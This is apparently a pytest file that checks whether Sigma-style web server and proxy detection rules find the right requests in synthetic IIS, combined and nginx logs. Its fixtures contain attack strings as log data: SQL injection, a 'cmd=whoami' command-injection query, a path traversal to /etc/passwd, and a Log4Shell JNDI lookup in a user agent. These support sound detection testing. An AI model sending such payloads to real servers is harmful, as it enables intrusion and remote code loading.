"""What rules for web servers find: by hand, over the same requests as several servers log them."""

from __future__ import annotations

import json
from collections.abc import Callable, Iterable, Mapping
from dataclasses import dataclass

import pytest

import carlang
from carlang.store import Store, open_store


@dataclass(frozen=True)
class Request:
    method: str
    uri: str
    status: int = 200
    agent: str = "-"
    referrer: str = "-"
    user: str = "-"


# By the last number of the client's address.
REQUESTS = {
    1: Request("GET", "/"),
    2: Request("POST", "/owa/auth/x.js?a=b", 500, "Mozilla/5.0 (Windows NT 10.0)", "https://a.example/?q=1"),
    3: Request("PROPFIND", "/dav", 207, user="EXAMPLE\\adam"),
    4: Request("GET", "/search?q=%27%20UNION%20SELECT%201--", agent="sqlmap/1.7 (https://sqlmap.org)"),
    5: Request("GET", "/a?cmd=whoami", 404),
    6: Request("GET", "/cgi-bin/.%2e/%2e%2e/etc/passwd", 403),
    7: Request("HEAD", "/upload.JSP"),
    8: Request("GET", "/x?next=/owa/auth/", agent="${jndi:ldap://198.51.100.9/a}"),
    9: Request("CONNECT", "www.example.com:443", 405),
    10: Request("GET", "/search?q=' UNION SELECT 1--".replace(" ", "+"), agent="Nmap Scripting Engine; x"),
}
ALL = frozenset(REQUESTS)

# A detection, and the requests that it is to find.
CASES: list[tuple[str, set[int] | frozenset[int]]] = [
    ("{cs-method: GET}", {1, 4, 5, 6, 8, 10}),
    ("{cs-method: [post, PROPFIND]}", {2, 3}),
    ("{cs-method|startswith: H}", {7}),
    ("{cs-method: CONNECT}", {9}),
    ("{sc-status: 200}", {1, 4, 7, 8, 10}),
    ("{sc-status|startswith: '4'}", {5, 6, 9}),
    ("{sc-status|gte: 500}", {2}),
    ("{c-ip: 203.0.113.7}", {7}),
    ("{c-ip|cidr: 203.0.113.8/31}", {8, 9}),
    ("{cs-username|endswith: '\\adam'}", {3}),
    ("{cs-username: null}", ALL - {3}),
    ("{cs-user-agent|contains: 'Nmap Scripting Engine'}", {10}),
    ("{c-useragent|startswith: sqlmap/}", {4}),
    ("{cs-user-agent: null}", {1, 3, 5, 6, 7, 9}),
    ("{cs-referer|contains: a.example}", {2}),
    # A path, with or without its query.
    ("{cs-uri-stem: /owa/auth/x.js}", {2}),
    ("{cs-uri-stem|endswith: .jsp}", {7}),
    ("{cs-uri-stem|contains: owa}", {2}),
    ("{c-uri: '/a?cmd=whoami'}", {5}),
    ("{c-uri|startswith: '/search?'}", {4, 10}),
    ("{cs-uri|contains: '/owa/auth/'}", {2, 8}),
    ("{c-uri-extension: js}", {2}),
    # A query, or what SigmaHQ's rules mean by one.
    ("{cs-uri-query: cmd=whoami}", {5}),
    ("{cs-uri-query|startswith: cmd=}", {5}),
    ("{cs-uri-query|contains: '/owa/auth/'}", {2, 8}),
    ("{cs-uri-query|startswith: '/owa'}", {2}),
    ("{cs-uri-query: '*?next=/owa/*'}", {8}),
    ("{cs-uri-query|endswith: .jsp}", {7}),
    ("{cs-uri-query|re: '^a=b$'}", {2}),
    ("{cs-uri-query: null}", {1, 3, 6, 7, 9}),
    ("{cs-uri-query|exists: true}", {2, 4, 5, 8, 10}),
    ("{c-uri-query|contains: '/owa/auth/'}", {8}),
    # What was sent percent-encoded stays so.
    ("{cs-uri-query|contains: 'UNION%20SELECT'}", {4}),
    ("{cs-uri-query|contains: 'UNION SELECT'}", set()),
    ("{cs-uri-query|contains: '/cgi-bin/.%2e/'}", {6}),
    ("{cs-uri-query|contains: '/etc/passwd'}", {6}),
    # Keywords, in any text of the request.
    ("['${jndi:ldap:/', 'sqlmap']", {4, 8}),
    ("['OWA']", {2, 8}),
]


def _w3c(requests: Mapping[int, Request]) -> Iterable[str]:
    yield "#Software: Microsoft Internet Information Services 10.0"
    yield "#Fields: date time cs-method cs-uri-stem cs-uri-query cs-username c-ip cs(User-Agent) cs(Referer) sc-status"
    for number, each in requests.items():
        stem, _, query = each.uri.partition("?")
        values = [each.method, stem, query or "-", each.user, f"203.0.113.{number}"]
        values += [each.agent.replace(" ", "+"), each.referrer, str(each.status)]
        yield " ".join(["2023-05-04", "10:00:00", *values])


def _combined(requests: Mapping[int, Request]) -> Iterable[str]:
    for number, each in requests.items():
        texts = [f"{each.method} {each.uri} HTTP/1.1", each.referrer, each.agent]
        request, referrer, agent = (text.replace("\\", "\\\\").replace('"', '\\"') for text in texts)
        user = each.user.replace("\\", "\\\\")
        start = f"203.0.113.{number} - {user} [04/May/2023:10:00:00 +0000]"
        yield f'{start} "{request}" {each.status} 0 "{referrer}" "{agent}"'


def _nginx_json(requests: Mapping[int, Request]) -> Iterable[str]:
    for number, each in requests.items():
        record = {"time_iso8601": "2023-05-04T10:00:00+00:00", "remote_addr": f"203.0.113.{number}"}
        record |= {"request": f"{each.method} {each.uri} HTTP/1.1", "status": str(each.status)}
        texts = {"remote_user": each.user, "http_referer": each.referrer, "http_user_agent": each.agent}
        yield json.dumps(record | {name: "" if text == "-" else text for name, text in texts.items()})


FORMS: dict[str, Callable[[Mapping[int, Request]], Iterable[str]]] = {
    "IIS": _w3c,
    "combined": _combined,
    "nginx, as JSON": _nginx_json,
}


@pytest.fixture(scope="module", params=FORMS)
def hits(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> dict[str, set[int]]:
    """Of each case the requests that its rule finds, in one form of log."""
    folder = tmp_path_factory.mktemp("web")
    (folder / "a.log").write_text("".join(f"{line}\n" for line in FORMS[request.param](REQUESTS)))
    assert not carlang.ingest([folder / "a.log"], folder / "store").rejections
    analytics = [carlang.load_text(_rule(case), f"rule{number}.yml") for number, (case, _) in enumerate(CASES)]
    report = carlang.run_all(analytics, open_store(folder / "store"))
    assert [[fault.message for fault in each.diagnostics] for each in report.failed] == []
    return {
        each.analytic: {int(str(row["requester_ip_address"]).rpartition(".")[2]) for row in each.output.rows()}
        for each in report.results
    }


def _rule(detection: str, category: str = "webserver") -> str:
    return f"title: T\nlogsource: {{category: {category}}}\ndetection:\n    sel: {detection}\n    condition: sel\n"


@pytest.mark.parametrize(("number", "case"), list(enumerate(CASES)), ids=[case for case, _ in CASES])
def test_a_rule_finds_the_requests_that_it_means(
    number: int, case: tuple[str, set[int]], hits: dict[str, set[int]]
) -> None:
    assert hits.get(f"rule{number}", set()) == case[1]


def test_every_rule_says_of_which_requests_it_speaks() -> None:
    """No case may be true of all requests, nor the table know nothing but rules that find nothing."""
    assert all(expected != ALL for _, expected in CASES)
    assert [case for case, expected in CASES if not expected] == ["{cs-uri-query|contains: 'UNION SELECT'}"]


PROXY_LOGS = {
    "iis.log": [
        "#Fields: date time cs-method cs-uri-stem c-ip cs(User-Agent) sc-status",
        "2023-05-04 10:00:00 GET /1.cab 203.0.113.1 - 200",
    ],
    "bluecoat.log": [
        "#Fields: date time c-ip cs-method cs-uri-scheme cs-host cs-uri-path cs-uri-query cs(User-Agent) sc-status",
        '2023-05-04 10:00:00 203.0.113.2 GET http www.example.com /2.cab ?x "A b" 200',
    ],
    "squid.log": [
        "1683194400.000 5 203.0.113.3 TCP_MISS/200 9 GET http://www.example.com/3.cab - HIER_DIRECT/198.51.100.7 x/y",
    ],
    "access.log": [
        '203.0.113.4 - - [04/May/2023:10:00:00 +0000] "GET /4.cab HTTP/1.1" 200 5',
        '203.0.113.5 - - [04/May/2023:10:00:00 +0000] "GET http://www.example.com/5.cab HTTP/1.1" 200 5',
        # A URL that stands in a query is not one that was asked for.
        '203.0.113.6 - - [04/May/2023:10:00:00 +0000] "GET /out?to=http://www.example.com/6.cab HTTP/1.1" 200 5',
    ],
}


@pytest.mark.parametrize(
    ("category", "detection", "expected"),
    [
        # A server's log that has no browsers in it is not one in which they were hidden from a proxy.
        ("proxy", "{c-useragent: null}", {3, 5}),
        ("proxy", "{c-uri|endswith: .cab}", {3, 5}),
        ("proxy", "{c-uri|startswith: 'http://www.example.com/2'}", {2}),
        ("proxy", "{cs-uri|contains: 'example.com/'}", {2, 3, 5}),
        ("proxy", "{cs-host: www.example.com}", {2, 3}),
        ("webserver", "{cs-uri-query|contains: .cab}", {1, 4, 5, 6}),
    ],
)
def test_what_a_server_logs_is_nothing_of_a_proxy(
    category: str, detection: str, expected: set[int], proxies: Store
) -> None:
    report = carlang.run_all([carlang.load_text(_rule(detection, category), "rule.yml")], proxies)
    assert {
        int(str(row["requester_ip_address"])[-1]) for each in report.results for row in each.output.rows()
    } == expected


@pytest.fixture(scope="module")
def proxies(tmp_path_factory: pytest.TempPathFactory) -> Store:
    """Requests that servers and proxies have logged, by the last number of the client's address."""
    folder = tmp_path_factory.mktemp("proxies")
    for name, lines in PROXY_LOGS.items():
        (folder / name).write_text("".join(f"{line}\n" for line in lines))
    assert not carlang.ingest([folder / name for name in PROXY_LOGS], folder / "store").rejections
    return open_store(folder / "store")
